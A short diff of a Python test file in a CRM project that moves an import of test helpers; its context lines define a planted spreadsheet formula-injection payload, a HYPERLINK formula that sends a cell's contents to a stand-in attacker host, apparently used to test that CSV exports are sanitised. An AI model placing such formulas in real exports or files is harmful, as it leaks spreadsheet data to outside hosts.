@@ -14,7 +14,7 @@ from fieldcrm.reports import compute_report
 from fieldcrm.reports.export import write_csv
 from fieldcrm.store import Store
 from fieldcrm.store.export import export_csv
-from tests.reports.conftest import NOVEMBER, Area
+from tests.helpers.report_area import NOVEMBER, Area
 
 PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
